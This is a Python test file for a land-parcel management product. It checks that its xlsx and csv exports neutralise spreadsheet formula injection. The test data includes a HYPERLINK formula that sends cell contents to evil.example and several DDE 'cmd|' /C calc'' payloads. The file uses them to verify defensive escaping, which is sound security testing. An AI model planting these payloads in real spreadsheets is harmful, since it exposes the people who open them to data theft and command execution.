"""Formula injection: no stored text becomes a live formula in any xlsx or csv the product
writes (issue #13 item 13)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import Cell
from sqlalchemy import text
from sqlalchemy.orm import Session

from landmatch.spreadsheets import safe_cell
from tests.conftest import auth

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&B2,"点击")'
# One of each formula start OWASP lists, plus an error code openpyxl would store as an error.
PAYLOADS = [
    PAYLOAD,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]
PACKAGE = Path(__file__).resolve().parents[1] / "landmatch"


@pytest.mark.parametrize("value", PAYLOADS)
def test_risky_text_is_written_as_text_in_xlsx(value: str) -> None:
    wb = Workbook()
    ws = wb.active
    ws.append([safe_cell(value, Cell(ws))])
    safe_cell(value, ws.cell(2, 1))
    buf = io.BytesIO()
    wb.save(buf)
    back = load_workbook(io.BytesIO(buf.getvalue())).active
    for row in (1, 2):
        cell = back.cell(row, 1)
        assert cell.data_type == "s" and cell.value == value


def test_values_keep_their_type() -> None:
    wb = Workbook()
    ws = wb.active
    values: list[Any] = [-3, -2.5, Decimal("-1.25"), 0, True, None, dt.date(2024, 5, 1), "河北"]
    ws.append([safe_cell(v, Cell(ws)) for v in values])
    buf = io.BytesIO()
    wb.save(buf)
    back = [c.value for c in load_workbook(io.BytesIO(buf.getvalue())).active[1]]
    assert back[:5] == [-3, -2.5, -1.25, 0, True] and back[5] is None
    assert back[6].date() == dt.date(2024, 5, 1) and back[7] == "河北"
    # Negative numbers stay numbers in csv, as numbers and as numeric text.
    assert [safe_cell(v) for v in (-3, -2.5, "-12.5", "+7", "1e-3")] == [
        -3,
        -2.5,
        "-12.5",
        "+7",
        "1e-3",
    ]


def test_control_characters_xlsx_cannot_hold_are_dropped() -> None:
    ws = Workbook().active
    assert safe_cell("\x01=1+1", ws.cell(1, 1)).value == "=1+1"
    assert ws.cell(1, 1).data_type == "s" and ws.cell(1, 1).quotePrefix


@pytest.mark.parametrize("value", PAYLOADS[:-1])
def test_risky_text_gets_a_quote_in_csv(value: str) -> None:
    buf = io.StringIO()
    csv.writer(buf).writerow([safe_cell(value), safe_cell(-4), safe_cell("普通文本")])
    [row] = list(csv.reader(io.StringIO(buf.getvalue())))
    assert row == ["'" + value, "-4", "普通文本"]


def _cells(data: bytes) -> list[Any]:
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _planted(cells: list[Any]) -> list[Any]:
    return [c for c in cells if isinstance(c.value, str) and c.value in PAYLOADS[:-1]]


def test_every_exported_workbook_keeps_planted_text_as_text(
    client: TestClient, session: Session, tokens: dict[str, str]
) -> None:
    """A parcel, its disposal case and a zone named with formulas, exported through each
    product workbook: the public and staff 熟地清单 and the monitoring export."""
    parcel = (
        session.execute(
            text(
                "SELECT code FROM landmatch.parcel WHERE status = 'idle' AND city_code = '130100' "
                "AND deleted_at IS NULL ORDER BY code LIMIT 1"
            )
        )
        .scalars()
        .one()
    )
    public = (
        session.execute(
            text(
                "SELECT code FROM landmatch.parcel WHERE status = 'ready' AND city_code = '130100' "
                "AND visibility = 'public' AND deleted_at IS NULL ORDER BY code LIMIT 1"
            )
        )
        .scalars()
        .one()
    )
    for code in (parcel, public):
        session.execute(
            text(
                "UPDATE landmatch.parcel SET name = :n, address = :a, holder = :h, notes = :o "
                "WHERE code = :c"
            ),
            {"n": PAYLOAD, "a": PAYLOADS[1], "h": PAYLOADS[2], "o": PAYLOADS[3], "c": code},
        )
    session.execute(
        text(
            "INSERT INTO landmatch.disposal_case (parcel_id, kind, city_code, area_m2, opened_on, "
            "note, opened_by) SELECT id, 'idle', city_code, area_m2, DATE '2026-01-05', :n, :n "
            "FROM landmatch.parcel WHERE code = :c"
        ),
        {"n": PAYLOAD, "c": parcel},
    )
    session.flush()
    admin = auth(tokens["admin"])
    files = {
        "public xlsx": client.get(
            "/api/exports/parcels", params={"format": "xlsx", "city": "130100", "status": "ready"}
        ),
        "staff xlsx": client.get(
            "/api/exports/parcels",
            params={"format": "xlsx", "city": "130100", "status": "ready,idle"},
            headers=admin,
        ),
        "monitoring xlsx": client.get(
            "/api/monitoring/export.xlsx",
            params={"city": "130100", "as_of": "2026-11-01"},
            headers=admin,
        ),
    }
    for kind, r in files.items():
        assert r.status_code == 200, (kind, r.text)
        cells = _cells(r.content)
        formulas = [c.coordinate for c in cells if c.data_type == "f"]
        assert not formulas, (kind, formulas[:5])
        planted = _planted(cells)
        assert planted, f"{kind}: the planted text is not in the file"
        for c in planted:
            assert c.data_type == "s", (kind, c.coordinate, c.data_type)
        assert any(c.value == PAYLOAD for c in planted), kind
    staff = {c.value for c in _planted(_cells(files["staff xlsx"].content))}
    assert set(PAYLOADS[:4]) <= staff  # name, address, holder and notes all reached the file


WRITERS = re.compile(
    r"\bWorkbook\(|new_(streaming_)?workbook\(|csv\.writer\(|DictWriter\(|\.to_excel\(|\.to_csv\(|xlsxwriter"
)
# The shared layout writes every cell through safe_cell.
SAFE = re.compile(r"\bsafe_cell\b|\bwrite_sheet\(")
# Files the product writes that are not spreadsheets a person opens: COPY into PostgreSQL.
NOT_SPREADSHEETS = {"db/bulk.py"}


def test_every_spreadsheet_writer_uses_safe_cell() -> None:
    """A new xlsx or csv writer must route its cells through ``safe_cell``."""
    writers = []
    for path in sorted(PACKAGE.rglob("*.py")):
        rel = path.relative_to(PACKAGE).as_posix()
        src = path.read_text(encoding="utf-8")
        code = "\n".join(x for x in src.splitlines() if not x.lstrip().startswith(">>>"))
        if rel in NOT_SPREADSHEETS or rel == "spreadsheets.py" or not WRITERS.search(code):
            continue
        writers.append(rel)
        assert SAFE.search(src), f"{rel} writes a spreadsheet without safe_cell"
    assert {"inventory/ledger.py", "monitoring/export.py"} <= set(writers)


def test_docstring_examples() -> None:
    import doctest

    import landmatch.spreadsheets

    result = doctest.testmod(landmatch.spreadsheets)
    assert result.attempted > 0 and result.failed == 0


def test_a_streamed_table_writes_what_the_listed_one_does() -> None:
    """``Table.rows`` as a stream (read once, e.g. from a server-side cursor): the same cells,
    number formats, 序号, widths (under WIDTH_SAMPLE rows) and autofilter as the same rows
    listed; risky text stays text."""
    from landmatch.spreadsheets import Column, Table, new_workbook, save, write_sheet

    cols = [Column("地块编号"), Column("面积(亩)", "mu"), Column("日期", "date")]
    rows = [[f"DK-{i}", i * 1.234567, dt.date(2026, 1, 1 + i % 28)] for i in range(300)]
    rows[7][0] = PAYLOAD
    books = []
    for table in (
        Table(cols, rows),
        Table(cols, (list(r) for r in rows), count=len(rows)),
    ):
        wb = new_workbook()
        write_sheet(wb, "表", table)
        books.append(load_workbook(io.BytesIO(save(wb)))["表"])
    listed, streamed = books
    assert [[c.value for c in r] for r in streamed.iter_rows()] == [
        [c.value for c in r] for r in listed.iter_rows()
    ]
    assert streamed.max_row == 301 and streamed["A301"].value == 300
    assert streamed["B9"].value == PAYLOAD and streamed["B9"].data_type == "s"
    assert [c.number_format for c in streamed[2]] == [c.number_format for c in listed[2]]
    assert streamed.auto_filter.ref == listed.auto_filter.ref
    assert {k: d.width for k, d in streamed.column_dimensions.items()} == {
        k: d.width for k, d in listed.column_dimensions.items()
    }


ESCAPE_LIKE = ["_x003D_1+1", "_x0041_", "_x005F_x0041_", "a_x0009_b_x005f_", "_x00_"]


@pytest.mark.parametrize("streaming", [False, True], ids=["openpyxl", "xlsxwriter"])
def test_escape_like_text_shows_as_typed_in_either_writer(streaming: bool, tmp_path: Path) -> None:
    """Excel reads _xHHHH_ in a cell's text as one character (ECMA-376 ST_Xstring). Both
    writers store such text with each starting underscore escaped — the openpyxl one wrote it
    as it was ("_x003D_1+1" showed as the formula-like "=1+1" with no quote prefix), and the
    streaming one missed the second of two sequences sharing an underscore ("_x005F_x0041_"
    showed as "_x005FA") — and the importers read it back as typed."""
    from landmatch.inventory.sheets import read_table
    from landmatch.spreadsheets import (
        Column,
        Table,
        new_streaming_workbook,
        new_workbook,
        save,
        write_sheet,
    )

    table = Table(
        [Column("地块编号"), Column("地块名称")], [[f"K{i}", v] for i, v in enumerate(ESCAPE_LIKE)]
    )
    path = tmp_path / "x.xlsx"
    if streaming:
        wb = new_streaming_workbook(path, str(tmp_path))
        write_sheet(wb, "清单", table)
        wb.close()
    else:
        wb = new_workbook()
        write_sheet(wb, "清单", table)
        save(wb, path)
    ws = load_workbook(path)["清单"]
    shown = [
        re.sub("_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), c.value)
        for c in ws["C"][1:]
    ]
    assert shown == ESCAPE_LIKE
    assert not any(c.quotePrefix for c in ws["C"][1:])
    read = read_table(load_workbook(path, read_only=True))
    assert [r[read.headers.index("地块名称")] for r in read.rows] == ESCAPE_LIKE
